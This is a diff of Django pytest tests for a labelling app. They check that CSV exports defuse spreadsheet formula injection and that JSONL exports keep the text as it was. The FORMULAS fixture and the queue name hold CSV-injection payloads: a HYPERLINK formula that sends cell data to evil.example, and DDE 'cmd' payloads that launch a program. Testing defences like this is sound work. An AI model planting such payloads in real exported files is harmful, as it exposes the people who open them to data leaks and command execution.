@@ -12,7 +12,7 @@ from django.contrib.auth.models import User
 from django.utils import timezone
 
 from apps.labelling.services import annotation_create, assignment_next, resolution_settle
-from tests.labelling.conftest import MakeQueue, MakeReviews, signed_in
+from tests.labelling.conftest import MakeQueue, MakeReviews, api_as, signed_in
 
 pytestmark = pytest.mark.django_db
 
@@ -87,3 +87,37 @@ def test_the_jsonl_export_of_one_queue(labelled: dict, admin: User, make_queue: 
         "settled_by": "admin",
         "resolved_at": None,
     }
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
+
+
+@pytest.mark.parametrize("url", ["/labelling/labels.csv", "/api/labelling/export.csv"])
+def test_the_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas(
+    url: str, make_reviews: MakeReviews, make_queue: MakeQueue, alice: User, admin: User
+) -> None:
+    reviews = make_reviews(texts=FORMULAS)
+    queue = make_queue("=cmd|' /C calc'!A0", annotators=[alice])
+    for _ in reviews:
+        assignment = assignment_next(queue=queue, user=alice)
+        annotation_create(queue=queue, user=alice, review_id=assignment.review_id, label="positive")
+
+    client = signed_in(admin) if url.startswith("/labelling/") else api_as(admin)
+    rows = list(csv.DictReader(io.StringIO(b"".join(client.get(url).streaming_content).decode())))
+
+    assert sorted(row["text"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    assert {row["queue"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+
+
+def test_the_jsonl_export_keeps_such_text_as_it_was(
+    make_reviews: MakeReviews, make_queue: MakeQueue, alice: User, admin: User
+) -> None:
+    make_reviews(texts=[FORMULAS[0]])
+    queue = make_queue("plain", annotators=[alice])
+    assignment = assignment_next(queue=queue, user=alice)
+    annotation_create(queue=queue, user=alice, review_id=assignment.review_id, label="positive")
+
+    body = b"".join(signed_in(admin).get("/labelling/labels.jsonl").streaming_content).decode()
+    records = [json.loads(line) for line in body.splitlines()]
+
+    assert records[0]["text"] == FORMULAS[0]
